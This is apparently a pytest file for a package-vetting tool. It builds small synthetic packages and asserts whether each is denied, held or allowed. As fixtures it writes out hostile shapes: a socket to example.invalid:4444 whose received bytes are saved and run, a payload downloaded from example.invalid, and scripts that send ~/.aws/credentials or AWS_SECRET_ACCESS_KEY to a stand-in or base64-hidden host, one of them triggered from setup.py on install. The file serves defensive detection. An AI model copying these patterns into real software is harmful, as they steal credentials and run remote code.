"""A socket's own port on a debugger's command line and a maintainer script signing in to
the server its variables name (ADR 0139), each beside the malicious shapes next to it; a
kernel's picture handed to a configured viewer stays denied.

Every sample is inert and made here (vetting only reads files): jupyter_console's
``handle_image_tempfile``, memray's ``attach`` and pip-requirements-parser's
``etc/scripts/utils_dejacode.py``, cut down to what the rules read."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

# jupyter_console: a picture a kernel sent, decoded, written and shown by the user's viewer.
VIEW = (
    "import base64, os, subprocess, sys, urllib.request\n"
    "from tempfile import TemporaryDirectory\n\nfrom traitlets import List\n\n\n"
    "class Viewer:\n{attrs}\n"
    "    def show(self, data):\n"
    "        raw = {data}\n"
    "        with TemporaryDirectory() as tempdir:\n"
    "            path = os.path.join(tempdir, 'tmp.png')\n"
    "            with open(path, 'wb') as f:\n"
    "                f.write(raw)\n"
    "            fmt = dict(file=path, format='png')\n"
    "            args = {args}\n"
    "            return subprocess.call(args)\n"
)
HANDLER = "    handler = List(config=True, help='the viewer: {file} is the picture')\n"
HANDED = "base64.b64decode(data.encode('ascii'))"
TEMPLATES = "[s.format(**fmt) for s in self.handler]"


def view(
    attrs: str = HANDLER, data: str = HANDED, args: str = TEMPLATES, more: str = ""
) -> dict[str, str]:
    text = VIEW.format(attrs=attrs, data=data, args=args) + more
    return {"evpkg/__init__.py": "", "evpkg/viewer.py": text}


# memray: a server on a port the system picks, whose number gdb is told.
ATTACH = (
    "import socket, subprocess\n\n\n"
    "def attach(pid):\n"
    "    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "    server.bind(('localhost', 0))\n"
    "    server.listen(1)\n"
    "    port = {port}\n"
    "    return subprocess.check_output({command}, text=True)\n"
)
GDB = "['gdb', '-batch', '-p', str(pid), f'-ex=set $port={port}']"


def attach(port: str = "server.getsockname()[1]", command: str = GDB) -> dict[str, str]:
    text = ATTACH.format(port=port, command=command)
    return {"evpkg/__init__.py": "", "evpkg/attach.py": text}


RECEIVED_FILE = (
    "import socket, subprocess\n\n\n"
    "def fetch():\n"
    "    s = socket.create_connection(('example.invalid', 4444))\n"
    "    with open('/tmp/evpkg-helper', 'wb') as f:\n"
    "        f.write(s.recv(65536))\n"
    "    return subprocess.call(['/tmp/evpkg-helper'])\n"
)

# pip-requirements-parser: a maintainer's script for a DejaCode server the user names.
SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
DEJACODE = (
    "import base64, os\n\nimport requests\n\n"
    "API_KEY = os.environ.get('DEJACODE_API_KEY', '')\n"
    "API_URL = {url}\n"
    "PACKAGES = f'{{API_URL}}packages/'\n"
    "HEADERS = {{'Authorization': 'Token {{}}'.format(API_KEY)}}\n\n\n"
    "def fetch(params):\n"
    "    return requests.get({target}, params=params, headers=HEADERS).json()['results']\n\n\n"
    "def about(package):\n"
    "    return requests.get(f\"{{package['api_url']}}about\", headers=HEADERS).json()\n\n\n"
    "def create(payload):\n"
    "    return requests.post(PACKAGES, data={data}, headers=HEADERS)\n"
)
SCRIPT = "etc/scripts/utils_dejacode.py"
ENV_URL = "os.environ.get('DEJACODE_API_URL', '')"


def dejacode(
    url: str = ENV_URL, target: str = "PACKAGES", data: str = "payload", where: str = SCRIPT
) -> dict[str, str]:
    text = DEJACODE.format(url=url, target=target, data=data)
    return {"setup.py": SETUP, "evpkg/__init__.py": "", where: text}


DENIED: dict[str, dict[str, str]] = {
    # The written file run as the program, or handed to what runs it.
    "handed-picture-run-as-itself": view(args="[path]"),
    "handed-picture-given-to-python": view(args="[sys.executable, path]"),
    "handed-picture-given-to-sh": view(args="['sh', path]"),
    "handed-picture-in-a-shell-line": view(args="'sh ' + path"),
    "handed-picture-templates-and-the-path-itself": view(args=TEMPLATES + " + [path]"),
    # A template the code writes, keeps in its class, decodes or reads from the environment.
    "template-written-in-the-code": view(args="[s.format(**fmt) for s in ['{file}']]"),
    "template-in-the-class-body": view(attrs="    handler = ['sh', '{file}']\n"),
    "template-from-the-environment": view(
        args="[s.format(**fmt) for s in os.environ.get('VIEWER', '{file}').split()]"
    ),
    "template-set-in-init": view(
        attrs="    def __init__(self):\n        self.handler = ['sh', '{file}']\n"
    ),
    "template-of-the-class-formatted-directly": view(
        attrs="    tmpl = 'sh {file}'\n", args="self.tmpl.format(**fmt)"
    ),
    "template-list-looped-in-the-code": view(
        args="[]\n            for s in ['sh', '{file}']:\n"
        "                args.append(s.format(**fmt))"
    ),
    "template-decoded": view(
        args="[s.format(**fmt) for s in base64.b64decode('e2ZpbGV9').decode().split()]"
    ),
    # What is written is the code's payload or a download, not a caller's value.
    "payload-written-in-the-code": view(data="base64.b64decode('ZWNobyBoaQ==')"),
    "downloaded-payload": view(data="urllib.request.urlopen('https://example.invalid/x').read()"),
    # Another module sets the templates and shows a payload of its own on import.
    "templates-set-elsewhere-for-the-codes-payload": {
        **view(),
        "evpkg/__init__.py": "from .viewer import Viewer\nViewer.handler = ['{file}']\n"
        "Viewer().show('ZWNobyBoaQ==')\n",
    },
    # The picture written and shown on import.
    "handed-picture-shown-on-import": view(more="\nViewer().show(sys.argv[1])\n"),
    # What a socket receives run, directly or written to a file first.
    "socket-received-command-run": attach(
        port="server.accept()[0].recv(4096)", command="port.decode()"
    ),
    "socket-received-file-run": {"evpkg/__init__.py": "", "evpkg/fetch.py": RECEIVED_FILE},
    # jupyter_console's own shape stays denied: a caller's decoded bytes written and handed to
    # templates nothing here knows could be the package's own payload and templates, set
    # and shown from another module on import (ADR 0139, review).
    "viewer-configured-for-a-kernels-picture": view(),
    "viewer-templates-given-the-path-by-keyword": view(
        args="[s.format(file=path) for s in self.handler]"
    ),
    "templates-imported-from-another-module": view(
        attrs="    from evpkg.conf import TEMPLATES as handler\n",
        more="",
    )
    | {"evpkg/conf.py": "TEMPLATES = ['sh {file}']\n"},
    # The token of a module of the package, sent to an address nothing in the code names.
    "package-module-signs-in-to-a-configured-server": dejacode(where="evpkg/dejacode.py"),
}
HELD: dict[str, dict[str, str]] = {
    # A maintainer script reached by nothing still holds when it sends a credential file,
    # the token to a host it names or decodes, or to a variable with a host for default.
    "script-sends-a-credential-file": dejacode(
        data="open(os.path.expanduser('~/.aws/credentials')).read()"
    ),
    "script-sends-the-token-to-a-host-it-names": dejacode(
        target="'https://example.invalid/packages/'"
    ),
    "script-sends-the-token-to-a-decoded-host": dejacode(
        target="base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode()"
    ),
    "script-address-defaults-to-a-host": dejacode(
        url="os.environ.get('DEJACODE_API_URL', 'https://example.invalid/')"
    ),
    # setup.py runs the script's sender on install (a chain from it is held).
    "setup-runs-the-scripts-sender": {
        **dejacode(),
        "setup.py": "import sys\nsys.path.insert(0, 'etc/scripts')\n"
        "from utils_dejacode import create\ncreate({})\n" + SETUP,
    },
    "script-address-defaults-by-or": dejacode(
        url="os.environ.get('DEJACODE_API_URL') or ('https:/' + '/example.invalid/')"
    ),
    "script-address-carries-a-secret-variable": dejacode(
        target="PACKAGES + '?k=' + os.environ['AWS_SECRET_ACCESS_KEY']"
    ),
}
ALLOWED: dict[str, dict[str, str]] = {
    "debugger-told-its-sockets-own-port": attach(),
    "maintainer-script-signs-in-to-the-configured-server": dejacode(),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_fifth_flow_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
